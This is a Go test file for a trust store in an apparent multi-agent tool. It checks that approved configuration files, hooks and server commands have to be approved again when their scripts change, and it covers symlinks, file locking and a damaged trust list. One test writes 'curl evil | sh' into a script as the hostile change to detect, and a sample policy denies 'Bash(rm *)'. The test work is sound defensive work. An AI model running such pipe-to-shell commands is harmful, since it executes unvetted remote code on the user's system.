package trust_test

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"

	"agentteam/pkg/execenv/trust"
	"agentteam/pkg/team"
	"agentteam/pkg/team/strictyaml"
)

// TestMain is the other process of TestStoreOfTwoProcesses, too.
func TestMain(m *testing.M) {
	if dir := os.Getenv("TRUST_FILES_IN"); dir != "" {
		for i := range 20 {
			name := filepath.Join(dir, strconv.Itoa(i))
			if err := trust.OfUser().Add(context.Background(), *trust.OfUser().Judge(name, name, nil), false); err != nil {
				panic(err)
			}
		}
		return
	}
	os.Exit(m.Run())
}

// Of files that several processes trust at the same time none is lost.
func TestStoreOfTwoProcesses(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	var wg sync.WaitGroup
	for range 3 {
		cmd := exec.Command(os.Args[0])
		cmd.Env = append(os.Environ(), "TRUST_FILES_IN="+t.TempDir())
		wg.Go(func() {
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Errorf("%v: %s", err, out)
			}
		})
	}
	wg.Wait()
	if list, err := trust.OfUser().List(); err != nil || len(list) != 60 {
		t.Errorf("of 60 files %d are listed, %v", len(list), err)
	}
}

// A process that waits for the list ends with its context, and has changed nothing.
func TestStoreIsHeld(t *testing.T) {
	config := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", config)
	s, file := trust.OfUser(), filepath.Join(t.TempDir(), "team.yaml")
	write(t, filepath.Join(config, "agentteam", "trusted.lock"), "")
	f, err := os.Open(filepath.Join(config, "agentteam", "trusted.lock"))
	if err == nil {
		err = syscall.Flock(int(f.Fd()), syscall.LOCK_EX)
	}
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- s.Add(ctx, *s.Judge(file, file, nil), false) }()
	cancel()
	if err := <-done; !errors.Is(err, context.Canceled) || s.Judge(file, file, nil) == nil {
		t.Errorf("%v, or it is trusted", err)
	}
	f.Close()
	if err := s.Add(t.Context(), *s.Judge(file, file, nil), false); err != nil {
		t.Error(err)
	}
}

// A list that cannot be read stays as it is: the person is asked to look at it.
func TestStoreStaysDamaged(t *testing.T) {
	config := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", config)
	stored, file := filepath.Join(config, "agentteam", "trusted.json"), filepath.Join(t.TempDir(), "team.yaml")
	write(t, stored, `{"v": 2, "files": [`)
	s := trust.OfUser()
	for name, err := range map[string]error{"Add": s.Add(t.Context(), *s.Judge(file, file, nil), false), "Remove": s.Remove(t.Context(), file)} {
		if !errors.Is(err, team.InvalidState) || team.HintOf(err) == "" {
			t.Errorf("%s: %v", name, err)
		}
	}
	if data, err := os.ReadFile(stored); err != nil || string(data) != `{"v": 2, "files": [` {
		t.Errorf("it is %q now, %v", data, err)
	}
	if left, err := filepath.Glob(stored + ".*"); err != nil || len(left) > 0 {
		t.Errorf("%q are left, %v", left, err)
	}
}

// Without a folder for settings all waits, and nothing can be trusted.
func TestStoreOfNoUser(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", "")
	t.Setenv("HOME", "")
	s := trust.OfUser()
	w := s.Judge("team.yaml", "team.yaml", nil)
	if w == nil {
		t.Fatal("it counts")
	}
	if err := s.Add(t.Context(), *w, false); !errors.Is(err, team.InvalidState) || team.HintOf(err) == "" {
		t.Error(err)
	}
}

// A file that was refused stays so until it is changed; then it waits as one that was never trusted.
func TestRefused(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	s, file := trust.OfUser(), filepath.Join(t.TempDir(), "team.yaml")
	write(t, file, "a")
	judge := func(text string) trust.Waiting {
		t.Helper()
		w := s.Judge(file, "team.yaml", []byte(text))
		if w == nil {
			t.Fatalf("%s counts", text)
		}
		w.Wait("network", text)
		return *w
	}
	if err := s.Add(t.Context(), judge("a"), true); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if w := judge("a"); !w.Refused || !slices.Equal(w.Lines(), []string{"network: a"}) {
			t.Errorf("as it was refused: %+v, %q", w, w.Lines())
		}
	}
	if w := judge("b"); w.Refused || !slices.Equal(w.Lines(), []string{"network: b"}) {
		t.Errorf("changed: %+v, %q", w, w.Lines())
	}
	if err := s.Add(t.Context(), judge("a"), false); err != nil || s.Judge(file, "team.yaml", []byte("a")) != nil {
		t.Errorf("a person has trusted it after all, and it waits: %v", err)
	}
}

// A hook or the command of a server waits again once its script, or its words, are others, and both are shown.
func TestChangedCommand(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	s, dir := trust.OfUser(), t.TempDir()
	file, script := filepath.Join(dir, "team.yaml"), filepath.Join(dir, "tools", "serve")
	write(t, script, "echo")
	judge := func(command string) *trust.Waiting {
		w := s.Judge(file, "team.yaml", []byte(command))
		if w != nil {
			w.Wait("branch_hook", command)
			w.Run(command)
		}
		return w
	}
	const command = "env -C tools tools/serve --port=1 >tools/log"
	first := judge(command)
	if err := s.Add(t.Context(), *first, false); err != nil || judge(command) != nil {
		t.Fatal("it is not trusted", err)
	}
	for name, change := range map[string]func() error{
		"other content":           func() error { return os.WriteFile(script, []byte("curl evil | sh"), 0o600) },
		"gone":                    func() error { return os.Remove(script) },
		"a folder":                func() error { return errors.Join(os.Remove(script), os.Mkdir(script, 0o700)) },
		"a link to another file":  func() error { return errors.Join(os.Remove(script), os.Symlink(file+".other", script)) },
		"made what was not there": func() error { return os.WriteFile(filepath.Join(dir, "tools", "log"), nil, 0o600) },
	} {
		write(t, file+".other", "curl evil | sh")
		if err := change(); err != nil {
			t.Fatal(err)
		}
		w := judge(command)
		if w == nil {
			t.Fatalf("%s: it counts", name)
		}
		lines := w.Lines()
		if lines[0] != "the same keys as before" || slices.Equal(lines[1:], first.Lines()[1:]) || !strings.Contains(strings.Join(lines, "\n"), "runs "+script+": ") {
			t.Errorf("%s: a person sees %q", name, lines)
		}
		_ = errors.Join(os.RemoveAll(script), os.RemoveAll(filepath.Join(dir, "tools", "log")))
		write(t, script, "echo")
		if judge(command) != nil {
			t.Fatalf("%s: as it was it waits", name)
		}
	}
	other := judge("tools/serve --port=2")
	if other == nil {
		t.Fatal("with another command it counts")
	}
	if lines := other.Lines(); lines[0] != "+ branch_hook: tools/serve --port=2" || lines[1] != "- branch_hook: "+command {
		t.Errorf("the difference is %q", lines)
	}
}

// A link in place of a file is another file: what was trusted of the name counts by the content alone, and a link out of
// the person's own folder, or into it, makes no file the person's.
func TestLinkedFile(t *testing.T) {
	config, dir := t.TempDir(), t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", config)
	s, file, own := trust.OfUser(), filepath.Join(dir, "team.yaml"), filepath.Join(config, "agentteam", "mine.yaml")
	write(t, file, "a")
	write(t, own, "a")
	if err := s.Add(t.Context(), *s.Judge(file, file, []byte("a")), false); err != nil {
		t.Fatal(err)
	}
	link := func(to, at string) {
		t.Helper()
		_ = os.Remove(at)
		if err := os.Symlink(to, at); err != nil {
			t.Fatal(err)
		}
	}
	elsewhere := filepath.Join(dir, "elsewhere.yaml")
	write(t, elsewhere, "b")
	link(elsewhere, file)
	if s.Judge(file, file, []byte("b")) == nil {
		t.Error("a link to other content counts")
	}
	link(elsewhere, filepath.Join(config, "agentteam", "linked.yaml"))
	if s.Judge(filepath.Join(config, "agentteam", "linked.yaml"), "", []byte("b")) == nil {
		t.Error("a link out of the person's folder counts")
	}
	if err := os.Symlink(filepath.Join(config, "agentteam"), filepath.Join(dir, "way")); err != nil {
		t.Fatal(err)
	}
	if s.Judge(filepath.Join(dir, "way", "mine.yaml"), "", []byte("a")) != nil {
		t.Error("the person's own file waits when its folder is reached by a link")
	}
	write(t, filepath.Join(config, "agentteam-evil", "team.yaml"), "a")
	if s.Judge(filepath.Join(config, "agentteam-evil", "team.yaml"), "", []byte("a")) == nil {
		t.Error("a folder whose name begins like the person's counts")
	}
}

// A script that cannot be read to its end, such as a pipe or a device, stops no process, and has no digest.
func TestRunOfNoFile(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	dir := t.TempDir()
	if err := syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o600); err != nil {
		t.Fatal(err)
	}
	w := trust.OfUser().Judge(filepath.Join(dir, "team.yaml"), "team.yaml", nil)
	w.Run("cat ./pipe </dev/zero; make all")
	if len(w.Runs) != 2 || w.Runs[filepath.Join(dir, "pipe")] != "" || w.Runs["/dev/zero"] != "" {
		t.Errorf("it runs %q", w.Runs)
	}
}

// Form holds what a file writes of a policy, each fault with its place, and plan is a mode of its own.
func TestForm(t *testing.T) {
	decode := func(text string) (f trust.Form, err error) {
		_, err = strictyaml.Format{File: "team.yaml"}.Decode([]byte(text), &f)
		return f, err
	}
	f, err := decode("network: a.example, b.example\npermission_mode: plan\npermissions: {deny: [Bash(rm *)], allow: [Read]}\ncredentials: [gh]\npaths: {read: [/opt]}\nworktree_links: [node_modules]\n")
	p, plan := f.Policy()
	if err != nil || !plan || p.PermissionMode != "" || !slices.Equal(p.Network, []string{"a.example", "b.example"}) || !slices.Equal(p.Permissions.Deny, []string{"Bash(rm *)"}) || !slices.Equal(p.Paths.Read, []string{"/opt"}) || !slices.Equal(p.Links, []string{"node_modules"}) {
		t.Errorf("%+v, plan %v, %v", p, plan, err)
	}
	for text, want := range map[string]string{
		"network: [a.example, 'b c']\n":          "team.yaml:1:",
		"permissions:\n  allow: [Read, '']\n":    "team.yaml:2:",
		"paths:\n  write:\n  - /opt\n  - ../x\n": "team.yaml:4:",
		"credentials: [gh,\n 'a b']\n":           "team.yaml:2:",
		"worktree_links:\n- a\n- /abs\n":         "team.yaml:3:",
		"permission_mode: everything\n":          "team.yaml:1:",
	} {
		if _, err := decode(text); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v", text, err)
		}
	}
}
